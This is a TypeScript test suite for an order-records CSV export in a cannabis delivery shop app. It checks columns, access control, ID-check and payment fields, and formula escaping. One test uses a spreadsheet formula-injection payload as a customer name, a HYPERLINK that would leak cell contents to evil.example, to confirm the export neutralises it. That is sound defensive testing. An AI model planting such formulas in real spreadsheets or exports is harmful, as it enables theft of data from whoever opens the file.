import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { dealerClient } from '../../../../test/catalog-admin';
import { BACKENDS } from '../../../../test/harness';
import { cartLine, orderBody, productsByName } from '../../../../test/orders-fixtures';
import { signaturePng } from '../../../../test/signature';
import { staffClient } from '../../../../test/staff';
import { appPerSuite } from '../../../../test/suite';
import type { Order } from '../../../shared/schemas/orders';
import type { Product } from '../../../shared/schemas/products';
import { shopClock } from '../../../shared/shop-clock';

describe.each(BACKENDS)('order records export on %s', (dialect) => {
  const t = appPerSuite(dialect, { seed: true });

  it('gives the owner every order of the shop days as CSV, and nobody else', async () => {
    const products = await productsByName(t.app);
    const line = cartLine(products.get('Sleepy Berry Gummies')!, '1', 3);
    const placed = await t.app.inject({
      method: 'POST',
      url: '/api/orders/simple',
      payload: orderBody([line], [...products.values()], {
        customer: 'Ada, "the" Lovelace',
      }),
    });
    expect(placed.statusCode).toBe(201);
    const order = placed.json();
    const today = (
      await t.db.kysely
        .selectFrom('orders')
        .select('shop_date')
        .where('id', '=', order.id)
        .executeTakeFirstOrThrow()
    ).shop_date!;

    const owner = await dealerClient(t);
    const res = await owner.send('GET', `/api/records/orders.csv?from=${today}&to=${today}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="canopy-orders-${today}-to-${today}.csv"`,
    );
    const [header, ...rows] = parse(res.body) as string[][];
    expect(header!.slice(0, 8).join(',')).toBe(
      'Order,Record,Placed at (UTC),Shop date,Sale date,Status,Type,Customer',
    );
    const row = rows.find((r) => r[0] === String(order.id))!;
    const at = (column: string) => row[header!.indexOf(column)];
    expect(at('Record')).toBe('sale');
    expect(at('Customer')).toBe('Ada, "the" Lovelace');
    expect(at('Items')).toBe(`Sleepy Berry Gummies (1) x 3 @ ${line.price.toFixed(2)}`);
    // one numeric column per tax, empty without a rule set
    for (const tax of ['Local cannabis business tax', 'Cannabis excise tax', 'Sales tax'])
      expect(at(tax)).toBe('');
    expect(row[header!.indexOf('Total')]).toBe(order.total.toFixed(2));

    const before = await owner.send('GET', '/api/records/orders.csv?from=2020-01-01&to=2020-01-31');
    expect(parse(before.body)).toHaveLength(1);
    const backwards = await owner.send(
      'GET',
      `/api/records/orders.csv?from=${today}&to=2020-01-01`,
    );
    expect(backwards.statusCode).toBe(400);

    const dispatcher = await staffClient(t, owner, 'dispatcher');
    expect(
      (await dispatcher.send('GET', `/api/records/orders.csv?from=${today}&to=${today}`))
        .statusCode,
    ).toBe(403);
  });

  it('escapes a formula in a customer name', async () => {
    const products = await productsByName(t.app);
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const placed = await t.app.inject({
      method: 'POST',
      url: '/api/orders/simple',
      payload: orderBody([cartLine(products.get('Rolling Papers')!, '1')], [...products.values()], {
        customer: name,
      }),
    });
    expect(placed.statusCode).toBe(201);
    const { shop_date } = await t.db.kysely
      .selectFrom('orders')
      .select('shop_date')
      .where('id', '=', placed.json().id)
      .executeTakeFirstOrThrow();
    const owner = await dealerClient(t);
    const res = await owner.send(
      'GET',
      `/api/records/orders.csv?from=${shop_date}&to=${shop_date}`,
    );
    const [header, ...rows] = parse(res.body) as string[][];
    const row = rows.find((r) => r[0] === String(placed.json().id))!;
    expect(row[header!.indexOf('Customer')]).toBe(`'${name}`);
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('keeps who handled each order, the customer number, the ID check, the signature and why a delivery came back', async () => {
    const owner = await dealerClient(t);
    const packer = await staffClient(t, owner, 'dispatcher', 'pat');
    const alex = await staffClient(t, owner, 'driver', 'alex');
    const products = await productsByName(t.app);
    const dream = products.get('Blue Dream') as Product;
    const deliver = async () => {
      const placed = await t.app.inject({
        method: 'POST',
        url: '/api/orders/simple',
        payload: orderBody([cartLine(dream, '1/4 Oz')], [...products.values()], {
          orderType: 'delivery',
          customer: 'Jamie Rivera',
        }),
      });
      const { id } = placed.json<Order>();
      await packer.send('PATCH', `/api/orders/${id}/status`, { status: 'packed' });
      await owner.send('PATCH', `/api/orders/${id}/driver`, { driverId: alex.id });
      return id;
    };
    const delivered = await deliver();
    const date = shopClock(new Date(), t.config.SHOP_TIMEZONE).date;
    const year = Number(date.slice(0, 4));
    const check = await alex.send('POST', `/api/deliveries/${delivered}/id-check`, {
      method: 'manual',
      firstName: 'Jamie',
      lastName: 'Rivera',
      dateOfBirth: `${year - 30}-01-15`,
      expiry: `${year + 1}-01-31`,
      idNumber: 'D1234567',
      state: 'CA',
    });
    expect(check.statusCode).toBe(200);
    // a payment short of the total hands nothing over
    const short = await alex.send('PATCH', `/api/deliveries/${delivered}`, {
      status: 'completed',
      signature: await signaturePng(),
      payment: { method: 'cash', collected: 1 },
    });
    expect(short.statusCode).toBe(409);
    expect(short.json()).toMatchObject({ code: 'PAYMENT_SHORT' });
    expect(short.json().error).toMatch(/^Order #\d+: \$1\.00 is short of the total, \$/);
    const done = await alex.send('PATCH', `/api/deliveries/${delivered}`, {
      status: 'completed',
      signature: await signaturePng(),
      payment: { method: 'cash', collected: 1000 },
    });
    expect(done.statusCode, done.body).toBe(200);
    expect(done.json().payment).toEqual({ method: 'cash', collected: 1000 });
    const returned = await deliver();
    await alex.send('PATCH', `/api/deliveries/${returned}`, {
      status: 'returned',
      returnReason: 'nobody-home',
    });

    const res = await owner.send('GET', `/api/records/orders.csv?from=${date}&to=${date}`);
    const [header, ...rows] = parse(res.body) as string[][];
    /** an order's row of the export, by column */
    const cells = (id: number) => {
      const row = rows.find((r) => r[0] === String(id))!;
      return Object.fromEntries(header!.map((column, i) => [column, row[i]]));
    };
    const order = done.json<Order>();
    const staff = (await owner.send('GET', '/api/staff')).json<
      { id: number; employeeNumber: string }[]
    >();
    const numberOf = (id: number) => staff.find((s) => s.id === id)!.employeeNumber;
    expect(cells(delivered)).toMatchObject({
      'Customer no.': expect.stringMatching(/^\d+$/),
      Driver: 'Alex',
      'Driver employee no.': numberOf(alex.id),
      'Prepared by': `Pat (${numberOf(packer.id)})`,
      'Handed over at (UTC)': order.completedAt,
      Record: 'sale',
      'ID check': 'Passed',
      'ID check method': 'manual',
      'ID checked at (UTC)': order.idCheck!.at,
      'Name confirmed by hand': '',
      'Return reason': '',
      Signature: 'yes',
      'Paid by': 'Cash',
      Collected: '1000.00',
    });
    expect(cells(returned)).toMatchObject({
      'Customer no.': '',
      'Handed over at (UTC)': '',
      Record: 'void',
      'Void reason': 'Brought back undelivered',
      'ID check': '',
      'Return reason': 'Nobody home',
      Signature: '',
    });
    // the export carries the fact of a signature, never the image
    expect(res.body).not.toContain('data:image');
  });
});
